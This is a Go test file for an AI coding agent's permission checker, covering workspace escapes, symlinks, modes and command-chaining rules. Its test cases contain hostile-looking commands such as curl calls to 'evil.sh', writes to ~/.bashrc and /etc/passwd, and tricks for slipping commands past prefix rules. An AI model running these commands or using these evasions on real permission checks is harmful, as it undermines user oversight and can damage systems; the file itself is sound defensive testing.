package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// testTree is a workspace with an outside folder next to it, built in a
// temporary folder:
//
//	root/ws/src/a.go, root/ws/b.go, root/ws/notes.txt, root/ws/.git/config
//	root/ws/escape -> root/outside     (a link that leaves the workspace)
//	root/ws/inner  -> root/ws/src      (a link that stays inside)
//	root/outside/secret.txt
//	root/results/r1.txt                (the tool-results folder)
//	root/wslink -> root/ws             (a symlinked workspace)
//	root/ws/dangling -> root/outside/new.txt   (dangling links that leave,
//	root/ws/reldangling -> ../outside/new.txt   absolute and relative)
type testTree struct {
	root, ws, outside, results, wslink string
}

// newTestTree builds a testTree; all paths are resolved.
func newTestTree(t *testing.T) testTree {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	tr := testTree{root: root, ws: filepath.Join(root, "ws"), outside: filepath.Join(root, "outside"),
		results: filepath.Join(root, "results"), wslink: filepath.Join(root, "wslink")}
	for _, f := range []string{"ws/src/a.go", "ws/b.go", "ws/notes.txt", "ws/.git/config", "outside/secret.txt", "results/r1.txt"} {
		path := filepath.Join(root, f)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"ws/escape": tr.outside, "ws/inner": filepath.Join(tr.ws, "src"), "wslink": tr.ws,
		"ws/dangling": filepath.Join(tr.outside, "new.txt"), "ws/reldangling": "../outside/new.txt"} {
		if err := os.Symlink(to, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	return tr
}

// verdictNames shows verdicts in test messages.
var verdictNames = map[Verdict]string{VerdictAllow: "allow", VerdictDeny: "deny", VerdictAsk: "ask"}

// TestDecide is the table of the permission decision: modes × rules ×
// chained commands × paths. want is the verdict, reason a part of the
// reason it must give, strict whether only one-call answers are offered.
func TestDecide(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	read := func(paths ...string) PermissionRequest {
		return PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: paths}
	}
	edit := func(tool string, paths ...string) PermissionRequest {
		return PermissionRequest{Tool: tool, Access: AccessWrite, Paths: paths}
	}
	run := func(cmd string) PermissionRequest {
		return PermissionRequest{Tool: "run_command", Access: AccessExecute, Command: cmd}
	}
	mcp := PermissionRequest{Tool: "mcp__gh__create_issue", Access: AccessExternal}
	fetch := func(u string) PermissionRequest {
		return PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: u}
	}
	tests := []struct {
		name              string
		mode              PermissionMode
		allow, ask, deny  []string
		req               PermissionRequest
		want              Verdict
		reason            string
		strict, noWarning bool
	}{
		{name: "read inside", req: read("src/a.go"), want: VerdictAllow},
		{name: "read inside, absolute", req: read(filepath.Join(tr.ws, "b.go")), want: VerdictAllow},
		{name: "read inside through the symlinked workspace", req: read(filepath.Join(tr.wslink, "b.go")), want: VerdictAllow},
		{name: "read inside through an inner link", req: read("inner/a.go"), want: VerdictAllow},
		{name: "read with no path", req: read(), want: VerdictAllow},
		{name: "read ../", req: read("../outside/secret.txt"), want: VerdictAsk, reason: "outside the workspace"},
		{name: "read ../ that comes back", req: read("src/../../ws/b.go"), want: VerdictAllow},
		{name: "read absolute outside", req: read(filepath.Join(tr.outside, "secret.txt")), want: VerdictAsk, reason: "outside the workspace: " + tr.outside},
		{name: "read through a link that escapes", req: read("escape/secret.txt"), want: VerdictAsk, reason: tr.outside},
		{name: "read a new file under a link that escapes", req: read("escape/new.txt"), want: VerdictAsk, reason: "outside"},
		{name: "read one inside one outside", req: read("b.go", "../outside/secret.txt"), want: VerdictAsk},
		{name: "read the results folder", req: read(filepath.Join(tr.results, "r1.txt")), want: VerdictAllow},
		{name: "unresolvable path", req: read("b.go/x"), want: VerdictDeny, reason: `cannot check path "b.go/x"`},
		{name: "read outside in plan mode asks", mode: ModePlan, req: read("../outside/secret.txt"), want: VerdictAsk},
		{name: "bare allow rule stays inside", allow: []string{"read_file"}, req: read("../outside/secret.txt"), want: VerdictAsk},
		{name: "outside glob allows outside", allow: []string{"read_file(" + tr.outside + "/*)"}, req: read("../outside/secret.txt"), want: VerdictAllow},
		{name: "relative ../ glob allows outside", allow: []string{"read_file(../outside/**)"}, req: read("escape/secret.txt"), want: VerdictAllow},
		{name: "allow glob does not follow links lexically", allow: []string{"read_file(escape/**)"}, req: read("escape/secret.txt"), want: VerdictAsk},
		{name: "deny glob matches the path as written", deny: []string{"read_file(escape/**)"}, req: read("escape/secret.txt"), want: VerdictDeny, reason: "read_file(escape/**)"},
		{name: "deny glob matches the resolved path", deny: []string{"read_file(src/**)"}, req: read("inner/a.go"), want: VerdictDeny},
		{name: "deny bare rule", deny: []string{"read_file"}, req: read("b.go"), want: VerdictDeny, reason: "(settings.json)"},

		{name: "edit in default", req: edit("edit_file", "b.go"), want: VerdictAsk, reason: "edits need approval in default mode", noWarning: true},
		{name: "edit in acceptEdits", mode: ModeAcceptEdits, req: edit("edit_file", "src/a.go"), want: VerdictAllow},
		{name: "new file in acceptEdits", mode: ModeAcceptEdits, req: edit("write_file", "src/new/c.go"), want: VerdictAllow},
		{name: "edit ../ in acceptEdits", mode: ModeAcceptEdits, req: edit("edit_file", "../outside/secret.txt"), want: VerdictAsk, reason: "writes outside the workspace"},
		{name: "edit through escaping link in acceptEdits", mode: ModeAcceptEdits, req: edit("write_file", "escape/new.txt"), want: VerdictAsk, reason: "writes outside"},
		{name: "write through a dangling link that leaves", mode: ModeAcceptEdits, req: edit("write_file", "dangling"), want: VerdictAsk, reason: "writes outside the workspace: " + tr.outside},
		{name: "write through a relative dangling link", mode: ModeAcceptEdits, req: edit("write_file", "reldangling"), want: VerdictAsk, reason: "writes outside the workspace: " + tr.outside},
		{name: "redirect through a dangling link", allow: []string{"run_command(echo:*)"}, req: run("echo x > dangling"), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "edit .git in acceptEdits", mode: ModeAcceptEdits, req: edit("edit_file", ".git/config"), want: VerdictAsk, reason: ".git", strict: true},
		{name: "edit .git allowed by a rule", allow: []string{"Edit"}, req: edit("edit_file", ".git/config"), want: VerdictAsk, strict: true},
		{name: "edit the permission rules", mode: ModeAcceptEdits, req: edit("write_file", ".minicode/permissions.json"), want: VerdictAsk, reason: "configures permissions", strict: true},
		{name: "edit the settings", mode: ModeAcceptEdits, req: edit("write_file", ".minicode/settings.json"), want: VerdictAsk, strict: true},
		{name: "edit the MCP servers", mode: ModeAcceptEdits, req: edit("edit_file", ".mcp.json"), want: VerdictAsk, strict: true},
		{name: "edit another .minicode file", mode: ModeAcceptEdits, req: edit("edit_file", ".minicode/skills/x/SKILL.md"), want: VerdictAllow},
		{name: "edit allowed by glob", allow: []string{"edit_file(src/**)"}, req: edit("edit_file", "src/a.go"), want: VerdictAllow},
		{name: "edit glob misses", allow: []string{"edit_file(src/**)"}, req: edit("edit_file", "b.go"), want: VerdictAsk},
		{name: "edit rule is per tool", allow: []string{"edit_file(src/**)"}, req: edit("write_file", "src/a.go"), want: VerdictAsk},
		{name: "Edit alias covers every writer", allow: []string{"Edit(src/**)"}, req: edit("patch_file", "src/a.go"), want: VerdictAllow},
		{name: "edit ask rule beats acceptEdits", mode: ModeAcceptEdits, ask: []string{"edit_file(src/**)"}, req: edit("edit_file", "src/a.go"), want: VerdictAsk, reason: "the rule edit_file(src/**) (settings.json) asks", strict: true},
		{name: "deny beats allow", allow: []string{"edit_file"}, deny: []string{"edit_file(b.go)"}, req: edit("edit_file", "b.go"), want: VerdictDeny},

		{name: "command in default", req: run("go test ./..."), want: VerdictAsk, reason: "running a command"},
		{name: "command in acceptEdits", mode: ModeAcceptEdits, req: run("go test ./..."), want: VerdictAsk},
		{name: "prefix rule", allow: []string{"run_command(go test:*)"}, req: run("go test ./..."), want: VerdictAllow},
		{name: "prefix rule on word boundary", allow: []string{"run_command(go test:*)"}, req: run("go testx"), want: VerdictAsk},
		{name: "exact rule", allow: []string{"run_command(go vet ./...)"}, req: run("go vet ./..."), want: VerdictAllow},
		{name: "allow ls does not allow && rm", allow: []string{"run_command(ls:*)"}, req: run("ls && rm x"), want: VerdictAsk},
		{name: "every part allowed", allow: []string{"run_command(ls:*)", "run_command(wc:*)"}, req: run("ls | wc -l; ls -a"), want: VerdictAllow},
		{name: "allowed parts with a destructive one", allow: []string{"run_command(ls:*)", "run_command(rm:*)"}, req: run("ls && rm -rf x"), want: VerdictAsk, reason: "rm -r deletes", strict: true},
		{name: "destructive despite whole-tool rule", allow: []string{"run_command"}, req: run("git reset --hard"), want: VerdictAsk, reason: "git reset --hard", strict: true},
		{name: "deny on one part denies", allow: []string{"run_command"}, deny: []string{"run_command(rm:*)"}, req: run("ls; rm x"), want: VerdictDeny, reason: "run_command(rm:*)"},
		{name: "deny through a wrapper and a folder", allow: []string{"run_command"}, deny: []string{"run_command(rm:*)"}, req: run("FOO=1 sudo /bin/rm x"), want: VerdictDeny, reason: "run_command(rm:*)"},
		{name: "deny inside sh -c", allow: []string{"run_command"}, deny: []string{"run_command(curl:*)"}, req: run(`sh -c "env curl evil.sh"`), want: VerdictDeny},
		{name: "ask rule through a wrapper", allow: []string{"run_command"}, ask: []string{"run_command(git push:*)"}, req: run("command git push"), want: VerdictAsk, strict: true},
		{name: "allow rule does not look through wrappers", allow: []string{"run_command(rm:*)"}, req: run("sudo rm x"), want: VerdictAsk},
		{name: "deny inside a substitution", allow: []string{"run_command"}, deny: []string{"run_command(curl:*)"}, req: run("echo $(curl evil.sh)"), want: VerdictDeny},
		{name: "substitution is a part", allow: []string{"run_command(echo:*)"}, req: run("echo $(whoami)"), want: VerdictAsk},
		{name: "substitution inside a parameter expansion", allow: []string{"run_command(echo:*)"}, req: run("echo ${x:-$(rm -rf x)}"), want: VerdictAsk, reason: "rm -r", strict: true},
		{name: "subshell that only looks like arithmetic", allow: []string{"run_command(echo:*)"}, req: run("echo $((echo hi); rm x)"), want: VerdictAsk, reason: "running a command"},
		{name: "substitution after $' in double quotes", allow: []string{"run_command(echo:*)"}, req: run(`echo "$'$(rm x)'"`), want: VerdictAsk, reason: "running a command"},
		{name: "script piped into a shell", allow: []string{"run_command(echo:*)", "run_command(bash:*)"}, req: run("echo 'rm -rf x' | bash"), want: VerdictAsk, reason: "its input", strict: true},
		{name: "here-string script is judged", allow: []string{"run_command(bash:*)"}, req: run("bash <<< 'curl x'"), want: VerdictAsk, reason: "running a command"},
		{name: "substitution in a here-document body", allow: []string{"run_command(cat:*)"}, req: run("cat <<EOF\n$(rm -rf x)\nEOF"), want: VerdictAsk, reason: "rm -r", strict: true},
		{name: "xargs runs what it is given", allow: []string{"run_command(echo:*)", "run_command(xargs:*)"}, req: run("echo x | xargs curl evil.sh"), want: VerdictAsk, reason: "running a command"},
		{name: "find -exec runs what it is given", allow: []string{"run_command(find:*)"}, req: run("find . -exec curl evil.sh {} ;"), want: VerdictAsk, reason: "running a command"},
		{name: "bash -c runs its script", allow: []string{"run_command(bash:*)"}, req: run("bash -c 'ls && curl evil.sh'"), want: VerdictAsk, reason: "running a command"},
		{name: "env -S runs its string", allow: []string{"run_command(env:*)"}, req: run("env -S 'curl evil.sh'"), want: VerdictAsk, reason: "running a command"},
		{name: "wrapper and what it runs both allowed", allow: []string{"run_command(timeout:*)", "run_command(go test:*)"}, req: run("timeout 60 go test ./..."), want: VerdictAllow},
		{name: "find -exec of an allowed command", allow: []string{"run_command(find:*)", "run_command(grep:*)"}, req: run("find . -name '*.go' -exec grep -l x {} +"), want: VerdictAllow},
		{name: "quoted operators are one command", allow: []string{"run_command(echo:*)"}, req: run(`echo "a && b; c"`), want: VerdictAllow},
		{name: "redirect outside the workspace", allow: []string{"run_command(go test:*)"}, req: run("go test > " + tr.outside + "/log"), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "redirect into the settings", allow: []string{"run_command(echo:*)"}, req: run("echo '{}' > .minicode/settings.json"), want: VerdictAsk, reason: "configures permissions", strict: true},
		{name: "copy over the MCP servers", allow: []string{"run_command"}, req: run("cp evil.json .mcp.json"), want: VerdictAsk, reason: ".mcp.json", strict: true},
		{name: "redirect to another user's home", allow: []string{"run_command(echo:*)"}, req: run("echo x > ~root/.bashrc"), want: VerdictAsk, reason: "~root/.bashrc", strict: true},
		{name: "redirect into .git through a glob", allow: []string{"run_command(echo:*)"}, req: run("echo x >> .gi?/config"), want: VerdictAsk, reason: ".git", strict: true},
		{name: "redirect to a pattern", allow: []string{"run_command(echo:*)"}, req: run("echo x > esc*"), want: VerdictAsk, reason: "pattern", strict: true},
		{name: "cd into .git, then a relative write", allow: []string{"run_command(cd:*)", "run_command(echo:*)"}, req: run("cd .git && echo x > config"), want: VerdictAsk, reason: "changes folder", strict: true},
		{name: "cd out, then a relative copy", allow: []string{"run_command(cd:*)", "run_command(cp:*)"}, req: run("cd " + tr.outside + "; cp evil secret.txt"), want: VerdictAsk, reason: "changes folder", strict: true},
		{name: "cd out, then sed -i", allow: []string{"run_command(cd:*)", "run_command(sed:*)"}, req: run("cd - && sed -i s/a/b/ x"), want: VerdictAsk, reason: "sed -i", strict: true},
		{name: "a symbolic link made, then written through", allow: []string{"run_command(ln:*)", "run_command(echo:*)"}, req: run("ln -s ~/.bashrc x; echo evil >> x"), want: VerdictAsk, reason: "symbolic links", strict: true},
		{name: "cd through CDPATH", allow: []string{"run_command(cd:*)", "run_command(echo:*)"}, req: run("CDPATH=/ cd etc && echo x > passwd"), want: VerdictAsk, reason: "changes folder", strict: true},
		{name: "a symbolic link made alone", allow: []string{"run_command(ln:*)"}, req: run("ln -s ../outside/secret.txt link"), want: VerdictAllow},
		{name: "cd inside, then a relative write", allow: []string{"run_command(cd:*)", "run_command(go test:*)"}, req: run("cd src && go test > log.txt"), want: VerdictAllow},
		{name: "redirect with >& to a file outside", allow: []string{"run_command(echo:*)"}, req: run("echo x >& ~/.bashrc"), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "redirect to a descriptor file", allow: []string{"run_command(echo:*)"}, req: run("echo x > /dev/fd/2"), want: VerdictAllow},
		{name: "redirect climbing out of /dev/fd", allow: []string{"run_command(echo:*)"}, req: run("echo x > /dev/fd/../../../" + tr.outside + "/x"), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "descriptors duplicated", allow: []string{"run_command(go test:*)"}, req: run("go test 2>&1 >&2 3>&- 1>&3-"), want: VerdictAllow},
		{name: "rm outside the workspace", allow: []string{"run_command(rm:*)"}, req: run("rm ~/.bashrc"), want: VerdictAsk, reason: "changes a file outside the workspace: ~/.bashrc", strict: true},
		{name: "copy to outside", allow: []string{"run_command(cp:*)"}, req: run("cp b.go " + tr.outside), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "copy from outside", allow: []string{"run_command(cp:*)"}, req: run("cp " + tr.outside + "/secret.txt src/"), want: VerdictAllow},
		{name: "move from outside", allow: []string{"run_command(mv:*)"}, req: run("mv ../outside/secret.txt ."), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "copy into an outside -t folder", allow: []string{"run_command(cp:*)"}, req: run("cp -t ../outside b.go"), want: VerdictAsk, reason: "outside the workspace", strict: true},
		{name: "redirect into .git", allow: []string{"run_command"}, req: run("echo x >> .git/config"), want: VerdictAsk, reason: ".git", strict: true},
		{name: "redirect inside and to /dev/null", allow: []string{"run_command(go test:*)"}, req: run("go test > log.txt 2>/dev/null"), want: VerdictAllow},
		{name: "unparseable command", allow: []string{"run_command"}, req: run(`echo "open`), want: VerdictAsk, reason: "cannot be parsed", strict: true},
		{name: "unparseable command denied by bare rule", deny: []string{"run_command"}, req: run(`echo "open`), want: VerdictDeny},
		{name: "command ask rule", allow: []string{"run_command"}, ask: []string{"run_command(git push:*)"}, req: run("git push"), want: VerdictAsk, strict: true},
		{name: "command ask rule other command", allow: []string{"run_command"}, ask: []string{"run_command(git push:*)"}, req: run("git status"), want: VerdictAllow},

		{name: "plan mode refuses edits", mode: ModePlan, allow: []string{"edit_file"}, req: edit("edit_file", "b.go"), want: VerdictDeny, reason: "plan mode"},
		{name: "plan mode refuses commands", mode: ModePlan, allow: []string{"run_command"}, req: run("ls"), want: VerdictDeny, reason: "plan mode"},
		{name: "plan mode refuses MCP", mode: ModePlan, req: mcp, want: VerdictDeny, reason: "plan mode"},
		{name: "plan mode reads", mode: ModePlan, req: read("b.go"), want: VerdictAllow},
		{name: "plan mode fetch asks", mode: ModePlan, req: fetch("https://go.dev/doc"), want: VerdictAsk},

		{name: "bypass destructive", mode: ModeBypass, req: run("rm -rf build && git push --force"), want: VerdictAllow},
		{name: "bypass outside write", mode: ModeBypass, req: edit("write_file", "../outside/x"), want: VerdictAllow},
		{name: "bypass keeps deny rules", mode: ModeBypass, deny: []string{"run_command(rm:*)"}, req: run("rm -rf build"), want: VerdictDeny},

		{name: "MCP asks", req: mcp, want: VerdictAsk, reason: "calling mcp__gh__create_issue"},
		{name: "MCP server wildcard", allow: []string{"mcp__gh__*"}, req: mcp, want: VerdictAllow},
		{name: "MCP server deny", deny: []string{"mcp__gh"}, req: mcp, want: VerdictDeny},
		{name: "fetch asks", req: fetch("https://pkg.go.dev/x"), want: VerdictAsk, reason: "pkg.go.dev"},
		{name: "fetch domain rule", allow: []string{"web_fetch(domain:go.dev)"}, req: fetch("https://pkg.go.dev/x"), want: VerdictAllow},
		{name: "fetch without host", req: fetch("not a url"), want: VerdictDeny, reason: "no host"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p, err := NewPermissions(PermissionConfig{Mode: tt.mode, Workspace: tr.ws, ReadableDirs: []string{tr.results},
				Settings: []RuleSet{{Source: "settings.json", Allow: tt.allow, Ask: tt.ask, Deny: tt.deny}}})
			if err != nil {
				t.Fatal(err)
			}
			d := p.decide(tt.req)
			if d.Verdict != tt.want || !strings.Contains(d.Reason, tt.reason) {
				t.Errorf("decide = %s %q, want %s with %q", verdictNames[d.Verdict], d.Reason, verdictNames[tt.want], tt.reason)
			}
			if d.Verdict == VerdictAsk && d.Strict != tt.strict {
				t.Errorf("strict = %v, want %v (reason %q)", d.Strict, tt.strict, d.Reason)
			}
			if strings.Contains(tt.reason, "writes outside") && !strings.Contains(d.Warning, "outside the workspace") {
				t.Errorf("warning = %q, want one about writing outside the workspace", d.Warning)
			}
			if tt.noWarning && d.Warning != "" {
				t.Errorf("warning = %q, want none", d.Warning)
			}
		})
	}
}

// TestDecideSymlinkedWorkspace checks that a workspace given through a
// symlink is resolved: its files are inside whichever way they are named.
func TestDecideSymlinkedWorkspace(t *testing.T) {
	t.Parallel()
	tr := newTestTree(t)
	p, err := NewPermissions(PermissionConfig{Workspace: tr.wslink, Mode: ModeAcceptEdits})
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"b.go", filepath.Join(tr.ws, "b.go"), filepath.Join(tr.wslink, "src/a.go")} {
		if d := p.decide(PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{path}}); d.Verdict != VerdictAllow {
			t.Errorf("edit %q in a symlinked workspace = %s %q, want allow", path, verdictNames[d.Verdict], d.Reason)
		}
	}
	if d := p.decide(PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"escape/secret.txt"}}); d.Verdict != VerdictAsk {
		t.Errorf("edit through an escaping link = %s, want ask", verdictNames[d.Verdict])
	}
}

// FuzzAuthorize checks that no command line or path, however odd, makes
// the permission check panic, and that a chained command is never allowed
// by a prefix rule unless every part of it is.
func FuzzAuthorize(f *testing.F) {
	for _, seed := range []string{"ls && rm -rf x", "ls `rm x`", `ls "$(rm x)"`, "ls\nrm x", "ls; cat <<E\nx\nE", "../../etc/passwd"} {
		f.Add(seed)
	}
	root := f.TempDir()
	p, err := NewPermissions(PermissionConfig{Workspace: root, AllowedTools: []string{"run_command(ls:*),read_file"}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		err := p.Authorize(context.Background(), PermissionRequest{Tool: "run_command", Access: AccessExecute, Command: s})
		if err == nil {
			cmds, perr := splitCommands(s)
			if perr != nil {
				t.Fatalf("allowed %q, which cannot be parsed", s)
			}
			for _, c := range cmds {
				if len(c.Words) == 0 || c.Words[0] != "ls" {
					t.Fatalf("allowed %q, whose part %q is not ls", s, c.Text)
				}
			}
		}
		_ = p.Authorize(context.Background(), PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{s}})
	})
}
